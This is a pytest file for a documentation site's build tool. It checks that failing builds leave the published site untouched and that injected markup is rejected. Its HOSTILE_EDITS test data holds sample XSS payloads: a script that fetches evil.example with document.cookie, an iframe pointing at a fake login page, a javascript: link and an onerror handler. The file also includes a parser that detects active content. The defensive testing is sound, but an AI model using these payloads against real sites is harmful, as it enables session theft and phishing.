"""A build that fails, for any reason, leaves the published site/ exactly as it was; hostile edits never publish."""

from __future__ import annotations

import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from editing import file_hashes
from safeguarding_site.commands import check as checks
from safeguarding_site.commands.build import build_site
from safeguarding_site.commands.main import main

# Builds the real site: an editor's change to the content may fail it.
pytestmark = pytest.mark.real_content


@pytest.fixture()
def project(project: Path, built_site: Path) -> Path:
    """conftest's copy of the project (built with the plugin from this checkout), its site/ the published site."""
    shutil.copytree(built_site, project / "site")
    return project


def append(path: Path, text: str) -> int:
    """Add ``text`` at the end of the file; return the line its first line lands on."""
    old = path.read_text(encoding="utf-8")
    path.write_text(old.rstrip("\n") + "\n\n" + text, encoding="utf-8")
    return old.rstrip("\n").count("\n") + 3


def assert_unchanged(project: Path, before: dict[str, str]) -> None:
    assert file_hashes(project / "site", folders=True) == before, "the published site changed although the build failed"
    # Only the lock file, which stays: deleting a flock'd file would let two builds hold "the" lock at once.
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".site")) in ([], [".site.lock"])


def test_broken_data_stops_the_build_and_keeps_the_site(project: Path, capfd: pytest.CaptureFixture[str]) -> None:
    recs = project / "cross_refs/recommendations.yaml"
    recs.write_text(recs.read_text(encoding="utf-8").replace("- id: 13\n", "- id: 12\n", 1), encoding="utf-8")
    before = file_hashes(project / "site", folders=True)
    assert main(["--root", str(project), "build"]) == 1
    err = capfd.readouterr().err
    assert "cross_refs/recommendations.yaml:" in err and "recommendation 12: duplicate id 12" in err
    assert f"build: not built, because check found problems; {project / 'site'} is unchanged." in err
    assert_unchanged(project, before)


def test_a_failing_strict_build_keeps_the_site(project: Path, capfd: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Even a problem the check cannot see (here: the check is switched off) fails safe in MkDocs."""
    monkeypatch.setattr(checks, "check_project", lambda root: [])
    append(project / "docs/one-year-on/chapter-1.md", "See [the missing annex](annex-z.md).\n")
    before = file_hashes(project / "site", folders=True)
    status = build_site(project, project / "site")
    out, err = capfd.readouterr()
    assert status != 0
    assert "contains a link 'annex-z.md', but the target 'one-year-on/annex-z.md' is not found" in err
    assert "Aborted with 1 warnings in strict mode!" in out + err
    assert f"build: failed (see the messages above); {project / 'site'} is unchanged." in err
    assert_unchanged(project, before)


HOSTILE_EDITS = {
    "script in a recommendation": (
        "cross_refs/recommendations.yaml", "  recommendation: |-\n",
        "  recommendation: |-\n    <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n",
        "recommendation contains raw HTML '<script>"),
    "javascript: link in a page": (
        "docs/one-year-on/chapter-2.md", None, "Read [the update](javascript:alert(document.domain)).\n",
        "a javascript: URL is not allowed"),
    "iframe in a page": (
        "docs/chief-adviser/chapter-1.md", None, '<iframe src="https://evil.example/login"></iframe>\n',
        "raw HTML <iframe> is not allowed"),
    "event handler in a page": (
        "docs/correspondence/index.md", None, '<img src="x.png" onerror="alert(1)">\n',
        "the event handler onerror= is not allowed"),
}


@pytest.mark.parametrize("edit", sorted(HOSTILE_EDITS))
def test_a_hostile_edit_is_rejected_naming_file_and_line(project: Path, capfd: pytest.CaptureFixture[str],
                                                         edit: str) -> None:
    file, anchor, hostile, message = HOSTILE_EDITS[edit]
    path = project / file
    if anchor is None:
        line = append(path, hostile)
    else:
        text = path.read_text(encoding="utf-8")
        line = text[: text.index(anchor)].count("\n") + 1
        path.write_text(text.replace(anchor, hostile, 1), encoding="utf-8")
    before = file_hashes(project / "site", folders=True)
    assert main(["--root", str(project), "build"]) == 1
    err = capfd.readouterr().err
    reported = [row for row in err.splitlines() if row.startswith(f"{file}:{line}:")]
    assert reported and message in reported[0], err
    assert_unchanged(project, before)


class _ActiveContent(HTMLParser):
    """Collects what would run in a browser: script-bearing tags, event handlers, script URLs."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"}

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "frame", "applet", "base"):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            url = "".join((value or "").split()).lower()
            if name.startswith("on") or (name in self.URL_ATTRIBUTES and url.startswith(("javascript:", "vbscript:"))):
                self.found.append(f"<{tag} {name}={value!r}>")


def test_the_published_site_has_no_hostile_markup(built_site: Path) -> None:
    """Belt and braces: nothing in any page's article runs script, whatever the checks let through."""
    pages = 0
    for page in built_site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        if "<article" not in html:
            continue
        parser = _ActiveContent()
        parser.feed(html[html.index("<article"): html.index("</article>")])
        assert parser.found == [], f"{page.relative_to(built_site)}: {parser.found}"
        pages += 1
    assert pages > 90
    index = json.loads((built_site / "search/search_index.json").read_text(encoding="utf-8"))
    assert "<script" not in json.dumps(index).lower()
